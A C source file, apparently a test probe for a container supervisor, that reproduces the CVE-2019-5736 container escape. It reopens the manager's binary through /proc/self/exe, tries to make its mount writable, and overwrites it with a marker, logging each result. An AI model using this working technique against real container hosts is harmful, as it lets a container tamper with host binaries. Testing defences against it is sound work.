/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * CVE-2019-5736 as it was done: a container in which "/proc/self/exe" is run gets hold of the file
 * that the manager was started from, and writes to it once nobody runs it any more. This is its
 * dynamic loader (the kernel runs it in the place of the manager's libraries) and what that becomes:
 *
 *   as loader         opens /proc/self/exe and runs /bin/overwrite with it
 *   overwrite N       opens descriptor N for writing until it may, writes, tells on /tmp/overwrite
 *
 * With capabilities it tries to make the mount writable first. Without libc, for there is none.
 */
#include <linux/mount.h>
#include <stdbool.h>

#include "supervisor/system.h"

#define RESULT    "/tmp/overwrite"
#define PROGRAM   "/bin/overwrite"
#define ETXTBSY   (-26)
#define TRIES     1000
#define EMPTY     0x1000 /* AT_EMPTY_PATH */
#define CLONE_FD  1      /* OPEN_TREE_CLONE */

#ifndef SYS_open_tree
#define SYS_open_tree 428
#endif
#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif

static size_t length_of(const char *text)
{
	size_t length = 0;

	while (text[length])
		length++;
	return length;
}

static void tell(int fd, const char *what, long result)
{
	char digits[24];
	size_t at = sizeof(digits) - 1;
	unsigned long rest = result < 0 ? (unsigned long)-result : (unsigned long)result;

	digits[at--] = '\n';
	do {
		digits[at--] = (char)('0' + rest % 10);
		rest /= 10;
	} while (rest > 0);
	if (result < 0)
		digits[at--] = '-';
	digits[at] = ' ';
	system_write(fd, what, length_of(what));
	system_write(fd, digits + at, sizeof(digits) - at);
}

/* "/proc/self/fd/N" */
static void name_of(long fd, char path[40])
{
	static const char start_of_it[] = "/proc/self/fd/";
	size_t length = sizeof(start_of_it) - 1;

	memcpy(path, start_of_it, length);
	if (fd >= 10)
		path[length++] = (char)('0' + fd / 10);
	path[length++] = (char)('0' + fd % 10);
	path[length] = '\0';
}

static void wait_a_little(void)
{
	const struct timespec time = {.tv_nsec = 10000000};

	system_call(SYS_nanosleep, (long)&time, 0, 0, 0, 0);
}

static long set_writable(long fd)
{
	struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};

	return system_call(SYS_mount_setattr, fd, (long)"", EMPTY, (long)&attr, sizeof(attr));
}

static void write_to(int result_fd, long fd)
{
	static const char bytes[] = "#!overwritten\n";
	char path[40];
	long opened = ETXTBSY;

	name_of(fd, path);
	for (int i = 0; opened == ETXTBSY && i < TRIES; i++) {
		opened = system_open_at(AT_FDCWD, path, O_WRONLY, 0);
		if (opened == ETXTBSY)
			wait_a_little();
	}
	tell(result_fd, "open", opened);
	if (opened >= 0)
		tell(result_fd, "write", system_write((int)opened, bytes, sizeof(bytes) - 1));
	tell(result_fd, "chmod", system_call(SYS_fchmodat, AT_FDCWD, (long)path, 0777, 0, 0));
	tell(result_fd, "truncate", system_call(SYS_truncate, (long)path, 4, 0, 0, 0));
}

static _Noreturn void overwrite(long fd)
{
	int result_fd;
	long copy;

	/* Nobody is to wait for the end of our output. */
	for (int stream = 0; stream <= 2; stream++)
		system_close(stream);
	result_fd = (int)system_open_at(AT_FDCWD, RESULT, O_WRONLY | O_CREAT | O_APPEND, 0644);

	tell(result_fd, "setattr", set_writable(fd));
	copy = system_call(SYS_open_tree, fd, (long)"", EMPTY | CLONE_FD, 0, 0);
	tell(result_fd, "open_tree", copy);
	if (copy >= 0)
		tell(result_fd, "setattr", set_writable(copy));
	write_to(result_fd, fd);
	if (copy >= 0)
		write_to(result_fd, copy);
	tell(result_fd, "done", 0);
	for (;;)
		wait_a_little();
}

static bool is_itself(const char *name)
{
	static const char own[] = "overwrite";

	for (size_t i = 0; i < sizeof(own); i++)
		if (name[i] != own[i])
			return false;
	return true;
}

int main(int argc, char *argv[], char *envp[])
{
	char number[2] = {0};
	const char *arguments[] = {"overwrite", number, NULL};
	long fd;

	if (argc == 2 && is_itself(argv[0]))
		overwrite(argv[1][0] - '0');
	fd = system_open_at(AT_FDCWD, "/proc/self/exe", O_PATH, 0);
	if (fd < 0 || fd > 9)
		return 1;
	number[0] = (char)('0' + fd);
	/* Whoever waits for the first process is to end, so that nobody runs the program any more. */
	if (system_call(SYS_getpid, 0, 0, 0, 0, 0) != 1 &&
	    system_call(SYS_clone, SIGCHLD, 0, 0, 0, 0) != 0)
		return 0;
	system_call(SYS_execve, (long)PROGRAM, (long)arguments, (long)envp, 0, 0);
	return 2;
}
